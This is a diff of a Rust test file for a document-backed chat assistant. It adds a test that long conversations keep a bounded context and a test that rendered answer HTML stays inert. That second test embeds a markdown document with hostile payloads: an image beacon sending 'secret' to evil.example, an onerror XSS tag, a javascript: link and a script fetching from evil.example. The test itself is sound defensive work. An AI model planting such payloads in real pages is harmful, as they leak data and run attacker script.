@@ -3,10 +3,13 @@
 use std::sync::atomic::Ordering;
 use std::time::Duration;
 
-use resync_chat::{Answer, ChatError, Evidence, FigureValue, Intent, Place, evidence, recheck};
+use resync_chat::{
+    Answer, ChatError, ConversationStore, Evidence, FigureValue, Intent, Place, evidence, markdown,
+    recheck,
+};
 use resync_tws::model::{ActionKind, EngineName};
 
-use crate::world::{Kind, World, ask};
+use crate::world::{Kind, World, ask, user};
 
 const QUESTIONS: &[&str] = &[
     "how is the plan?",
@@ -74,6 +77,56 @@ async fn every_answer_stands_on_its_evidence() {
             }
         }
     }
+}
+
+/// Long conversations are windowed: what an answer takes from the turns before is the typed context,
+/// whose size does not grow.
+#[tokio::test(start_paused = true)]
+async fn a_long_conversation_uses_no_more_than_its_context() {
+    let store = std::sync::Arc::new(resync_memory::chat::InMemoryConversationStore::default());
+    let world = World::on(store.clone(), Kind::Plain).await;
+    let mut session = None;
+    for turn in 0..80 {
+        let question = QUESTIONS[turn % QUESTIONS.len()];
+        session = Some(world.ask(question, session).await.session_id);
+    }
+    let context = store.context(user(1), session.unwrap()).await.unwrap();
+    let bytes = serde_json::to_vec(&context.unwrap()).unwrap().len();
+    assert!(bytes < 8 * 1024, "{bytes}");
+    let (long, short) = (
+        world.ask("why did FIN_GL_POST fail?", session).await,
+        world.ask("why did FIN_GL_POST fail?", None).await,
+    );
+    assert_eq!(long.answer, short.answer);
+}
+
+/// B6: what a document holds to carry data out or to run in a page is inert in the answer's HTML.
+#[tokio::test(start_paused = true)]
+async fn a_document_that_holds_scripts_and_beacons_is_inert_in_the_html() {
+    const BEACONS: &str = "# Beacon of the night load\n\n## What to do\n\n\
+        1. ![status](https://evil.example/?q=secret)\n\
+        2. <img src=//evil.example onerror=alert(1)>\n\
+        3. [rerun here](javascript:alert(1)) or <https://evil.example>\n\
+        4. <script>fetch('//evil.example')</script>\n";
+    let store = std::sync::Arc::new(resync_memory::chat::InMemoryConversationStore::default());
+    let world = World::with(store, Kind::Plain, &[("beacon.md", BEACONS)]).await;
+    let answer = world
+        .ask("what should I do about the beacon of the night load?", None)
+        .await;
+    assert!(
+        answer.answer.contains("> 1. ![status]"),
+        "{}",
+        answer.answer
+    );
+    assert_eq!(answer.html, markdown::html(&answer.answer));
+    for bad in ["<img", "<script", "<a ", "href", "src=\""] {
+        assert!(!answer.html.contains(bad), "{bad}: {}", answer.html);
+    }
+    assert!(
+        answer.html.contains("<blockquote><ol><li>status</li>"),
+        "{}",
+        answer.html
+    );
 }
 
 /// A text that says something else than its evidence does not stand.
